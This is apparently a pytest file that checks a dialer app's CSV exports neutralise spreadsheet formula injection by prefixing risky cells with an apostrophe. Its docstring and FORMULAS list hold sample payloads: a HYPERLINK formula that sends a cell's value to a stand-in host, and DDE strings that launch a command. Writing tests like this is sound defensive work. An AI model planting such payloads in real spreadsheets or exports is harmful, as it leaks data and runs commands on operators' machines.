"""Exported CSV cells never start a spreadsheet formula (issue 14, item 3).

A customer's name such as ``=HYPERLINK("http://evil/?"&A1)`` or ``@SUM(1+1)*cmd|' /C calc'!A0``
would run when an operator opens the export in a spreadsheet. Cells that start with
= + - @ tab or CR get a leading apostrophe; phone numbers and plain numbers stay as they are.
"""

from __future__ import annotations

import csv
import io
import uuid
from datetime import UTC, datetime
from pathlib import Path

import pytest

from dialer.cli.render import write_rejects
from dialer.cli.reports import write_results
from dialer.csv_cells import spreadsheet_safe
from dialer.customers_csv import RowProblem
from dialer.services.exports import ResultRow
from dialer.services.imports import ImportReport

FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+SUM(1+1)",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("value", FORMULAS)
def test_a_formula_cell_is_escaped(value: str) -> None:
    assert spreadsheet_safe(value) == "'" + value


@pytest.mark.parametrize(
    "value",
    ["Maria", "+14155550123", "+44 20 7946 0000", "-12.5", "", "a=b", 42, None, 1.5],
)
def test_other_cells_are_left_alone(value: object) -> None:
    assert spreadsheet_safe(value) == value


def _row(**customer: str) -> ResultRow:
    at = datetime(2026, 11, 23, 10, tzinfo=UTC)
    return ResultRow(
        customer=uuid.uuid4(),
        customer_id=customer.get("customer_id", "c-1"),
        name=customer.get("name", "Maria"),
        surname=customer.get("surname", "Rossi"),
        phone=customer.get("phone", "+14155550123"),
        email=customer.get("email", "maria@example.com"),
        state="active",
        close_reason=None,
        goal_met=False,
        calls_made=1,
        last_outcome="no_answer",
        last_call_at=at,
        last_call_duration_seconds=None,
        total_cost_millicents=0,
        whatsapp_sent=0,
        last_contact_at=at,
        enrolled_at=at,
        closed_at=None,
    )


def test_campaign_export_escapes_customer_cells() -> None:
    stream = io.StringIO()
    row = _row(name=FORMULAS[0], surname="@cmd", customer_id="=1+1", email="-x@example.com")
    write_results(stream, [row])
    [written] = list(csv.DictReader(io.StringIO(stream.getvalue())))
    assert written["name"] == "'" + FORMULAS[0]
    assert written["surname"] == "'@cmd"
    assert written["customer_id"] == "'=1+1"
    assert written["email"] == "'-x@example.com"
    assert written["phone"] == "+14155550123"


def test_rejected_rows_file_escapes_raw_cells(tmp_path: Path) -> None:
    problem = RowProblem(
        line=2, field="phone", reason="invalid", raw={"name": "=1+1", "phone": "x"}
    )
    report = ImportReport()
    report.problems.add(problem)
    out = tmp_path / "rejects.csv"
    write_rejects(out, report)
    [written] = list(csv.DictReader(io.StringIO(out.read_text())))
    assert written["name"] == "'=1+1"
